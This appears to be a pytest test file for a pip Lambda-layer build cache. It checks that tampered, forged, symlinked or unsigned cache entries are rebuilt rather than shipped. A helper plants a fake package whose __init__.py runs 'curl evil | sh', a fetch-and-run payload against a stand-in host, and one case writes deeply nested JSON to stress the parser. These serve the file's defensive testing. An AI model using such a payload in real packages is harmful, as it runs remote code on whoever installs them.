"""The layer cache serves only what was built: an entry whose zip does not match the record of its build (or that
has no such record, or another input's) is reported and rebuilt, never shipped. With a signing key, an entry
whose record is not signed with it is rebuilt too, so that a writer of the cache directory cannot forge one."""

from __future__ import annotations

import hashlib
import json
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest

from cdk_pip_layer import PipLambdaLayer
from cdk_pip_layer.engine.result import Verified
from cdk_pip_layer.store import RECORD_FILE, SIGNING_KEY_VARIABLE

from ._helpers import files_under, layer_asset_hash, make_app, synth_template, write_zip
from .conftest import FakeBuild

GENUINE = ["python/fake_pkg/__init__.py"]


def _synth(outdir: Path, requirements: Path, **props: Any) -> Path:
    app, stack = make_app(outdir)
    PipLambdaLayer(stack, "Layer", requirements=requirements, **props)
    return outdir / f"asset.{layer_asset_hash(synth_template(app))}.zip"


def _entry(cache: Path) -> Path:
    [entry] = (cache / "layers").iterdir()
    return entry


def _warnings(err: str) -> list[str]:
    return [line for line in err.splitlines() if "warning: the cached layer" in line]


def _evil_zip(path: Path) -> Path:
    return write_zip(path, {"python/fake_pkg/__init__.py": "import os; os.system('curl evil | sh')\n"})


def _rewrite_record(entry: Path, **changes: object) -> None:
    record = json.loads((entry / RECORD_FILE).read_text())
    record.update(changes)
    (entry / RECORD_FILE).write_text(json.dumps(record))


def test_an_entry_records_what_was_built(
    tmp_path: Path, requirements: Path, fake_build: FakeBuild, isolated_cache: Path
) -> None:
    # What a real build reports names the installer's and the interpreter's paths on this host.
    fake_build.installer = f"uv 0.5.0 ({tmp_path}/host/.venv/bin/uv)"
    fake_build.warnings = (f"pip 24.0 on Python 3.12.1 ({tmp_path}/host/bin/python3.12) said: deprecated",)
    layer = _synth(tmp_path / "out-1", requirements)
    entry = _entry(isolated_cache)
    assert sorted(p.name for p in entry.iterdir()) == ["layer.zip", RECORD_FILE]
    record = json.loads((entry / RECORD_FILE).read_text())
    assert record["key"] == entry.name
    assert record["sha256"] == hashlib.sha256(layer.read_bytes()).hexdigest()
    assert record["size"] == layer.stat().st_size
    assert record["build"]["distributions"] == ["fake-pkg==1.0"]
    assert record["build"]["target"] == "python3.12/x86_64"
    assert str(tmp_path) not in (entry / RECORD_FILE).read_text()  # no host paths
    assert record["build"]["installer"] == "uv 0.5.0 (uv)"
    assert record["build"]["warnings"] == ["pip 24.0 on Python 3.12.1 (python3.12) said: deprecated"]


@pytest.mark.parametrize(
    "damage", ["substituted", "truncated", "no record", "record of another input", "a link", "nested record"]
)
def test_an_entry_that_does_not_match_its_record_is_rebuilt_not_shipped(
    tmp_path: Path,
    requirements: Path,
    *,
    fake_build: FakeBuild,
    isolated_cache: Path,
    capsys: pytest.CaptureFixture[str],
    damage: str,
) -> None:
    _synth(tmp_path / "out-1", requirements)
    entry = _entry(isolated_cache)
    genuine = (entry / "layer.zip").read_bytes()
    if damage == "substituted":  # a valid zip, put there by whoever can write the cache directory
        _evil_zip(entry / "layer.zip")
    elif damage == "truncated":
        (entry / "layer.zip").write_bytes(genuine[: len(genuine) // 2])
    elif damage == "no record":  # planted, or left by an earlier version
        _evil_zip(entry / "layer.zip")
        (entry / RECORD_FILE).unlink()
    elif damage == "record of another input":  # a whole entry copied from another input hash
        _evil_zip(entry / "layer.zip")
        sha = hashlib.sha256((entry / "layer.zip").read_bytes()).hexdigest()
        _rewrite_record(entry, key="f" * 64, sha256=sha, size=(entry / "layer.zip").stat().st_size)
    elif damage == "nested record":  # JSON that is valid, and too deep for Python's parser
        (entry / RECORD_FILE).write_text("[" * 900_000 + "]" * 900_000)
    else:
        elsewhere = _evil_zip(tmp_path / "elsewhere.zip")
        (entry / "layer.zip").unlink()
        (entry / "layer.zip").symlink_to(elsewhere)
    capsys.readouterr()
    layer = _synth(tmp_path / "out-2", requirements)
    err = capsys.readouterr().err
    assert len(fake_build.calls) == 2, err  # built again
    assert zipfile.ZipFile(layer).namelist() == GENUINE
    assert layer.read_bytes() == genuine  # what ships is the build's, never the entry's
    [warning] = _warnings(err)
    assert str(entry) in warning and "building it again" in warning
    assert "reused from the cache" not in err
    # The entry is replaced by the new build and its record: the next synth is served again.
    assert (entry / "layer.zip").read_bytes() == genuine and not (entry / "layer.zip").is_symlink()
    capsys.readouterr()
    _synth(tmp_path / "out-3", requirements)
    assert len(fake_build.calls) == 2
    sha = hashlib.sha256(genuine).hexdigest()
    assert f"reused from the cache {entry / 'layer.zip'}: 1 distribution, sha256 {sha[:12]} as recorded (" in (
        capsys.readouterr().err
    )


def test_a_signing_key_refuses_an_entry_forged_with_a_matching_record(
    tmp_path: Path,
    requirements: Path,
    *,
    fake_build: FakeBuild,
    isolated_cache: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Whoever can write the cache can also rewrite the record beside the zip; without the CI secret the record is
    signed with, they cannot make it match."""
    secret = "ci-secret-Zq8v1Lw3"
    monkeypatch.setenv(SIGNING_KEY_VARIABLE, secret)
    _synth(tmp_path / "out-1", requirements)
    entry = _entry(isolated_cache)
    genuine = (entry / "layer.zip").read_bytes()
    forged = _evil_zip(entry / "layer.zip")
    sha = hashlib.sha256(forged.read_bytes()).hexdigest()
    _rewrite_record(entry, sha256=sha, size=forged.stat().st_size)
    capsys.readouterr()
    layer = _synth(tmp_path / "out-2", requirements)
    err = capsys.readouterr().err
    assert len(fake_build.calls) == 2
    assert layer.read_bytes() == genuine
    [warning] = _warnings(err)
    assert SIGNING_KEY_VARIABLE in warning
    # The secret itself is never written, printed or put in the template.
    for path in files_under(isolated_cache, tmp_path / "out-1", tmp_path / "out-2"):
        assert secret.encode() not in path.read_bytes(), path
    assert secret not in err


def test_entries_written_without_the_key_are_rebuilt_once_a_key_is_set(
    tmp_path: Path,
    requirements: Path,
    *,
    fake_build: FakeBuild,
    isolated_cache: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _synth(tmp_path / "out-1", requirements)
    monkeypatch.setenv(SIGNING_KEY_VARIABLE, "now-signed")
    capsys.readouterr()
    _synth(tmp_path / "out-2", requirements)
    assert len(fake_build.calls) == 2
    assert len(_warnings(capsys.readouterr().err)) == 1
    _synth(tmp_path / "out-3", requirements)  # signed now: served
    assert len(fake_build.calls) == 2


def test_the_same_key_on_another_machine_serves_the_entry(
    tmp_path: Path,
    requirements: Path,
    fake_build: FakeBuild,
    isolated_cache: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A CI cache restored on a fresh runner (another path, the same secret) is still a cache."""
    monkeypatch.setenv(SIGNING_KEY_VARIABLE, "shared-ci-secret")
    _synth(tmp_path / "runner-1" / "cdk.out", requirements)
    restored = tmp_path / "runner-2-cache"
    shutil.copytree(isolated_cache, restored)
    monkeypatch.setenv("CDK_PIP_LAYER_CACHE_DIR", str(restored))
    _synth(tmp_path / "runner-2" / "cdk.out", requirements)
    assert len(fake_build.calls) == 1


def test_the_built_line_says_which_checks_could_not_run(
    tmp_path: Path, requirements: Path, fake_build: FakeBuild, capsys: pytest.CaptureFixture[str]
) -> None:
    """A layer whose smoke import could not run on this host does not pass for one fully checked: the construct's
    line says so, and why; a layer that was fully checked gets no such words."""
    _synth(tmp_path / "out-1", requirements, cache=False)
    assert "not run" not in capsys.readouterr().err
    fake_build.verified = Verified(("archive",), 0, (("import", "no Python 3.12 for aarch64 on this host"),))
    requirements.write_text("other==1.0\n", encoding="utf-8")
    _synth(tmp_path / "out-2", requirements, cache=False)
    [line] = [line for line in capsys.readouterr().err.splitlines() if ": built locally with fake" in line]
    assert line.endswith("; not run: import (no Python 3.12 for aarch64 on this host)") or (
        "; not run: import (no Python 3.12 for aarch64 on this host); report " in line
    )
